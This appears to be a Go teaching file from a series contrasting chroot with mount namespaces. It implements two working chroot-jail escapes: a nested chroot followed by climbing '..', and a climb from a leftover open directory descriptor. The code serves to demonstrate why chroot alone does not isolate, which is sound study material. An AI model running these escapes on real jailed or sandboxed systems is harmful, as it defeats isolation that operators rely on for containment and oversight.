//go:build linux

// Two escapes from a chroot jail. The same file in 01-chroot, where they work, and in
// 03-mount-namespace, where they don't.

package main

import (
	"errors"
	"os"

	"golang.org/x/sys/unix"
)

// escapeByChroot is escape (a). chroot(2) moves a process's root and nothing else, so a second
// chroot, into a directory below, leaves the working directory *above* the root. Then no root is
// left on the way up to stop "..".
func escapeByChroot() error {
	if err := os.Mkdir("below", 0o700); err != nil {
		return err
	}
	moved := os.NewSyscallError("chroot below", unix.Chroot("below"))
	// The directory isn't needed any more: a process holds its root like an open file.
	if err := errors.Join(moved, os.Remove("below")); err != nil {
		return err
	}
	if err := climb(); err != nil {
		return err
	}
	return os.NewSyscallError("chroot .", unix.Chroot("."))
}

// escapeByDescriptor is escape (b), by a directory outside that was left open. It needs no
// capability.
func escapeByDescriptor(fd int) error {
	if err := unix.Fchdir(fd); err != nil {
		return os.NewSyscallError("fchdir", err)
	}
	return climb()
}

// climb goes up from the working directory until ".." leads nowhere new. It ends at this process's
// root if that is on the way, and at the root of the mount namespace if not.
func climb() error {
	for {
		var here, up unix.Stat_t
		if err := unix.Stat(".", &here); err != nil {
			return &os.PathError{Op: "stat", Path: ".", Err: err}
		}
		if err := unix.Stat("..", &up); err != nil {
			return &os.PathError{Op: "stat", Path: "..", Err: err}
		}
		if here.Dev == up.Dev && here.Ino == up.Ino {
			return nil
		}
		if err := os.Chdir(".."); err != nil {
			return err
		}
	}
}
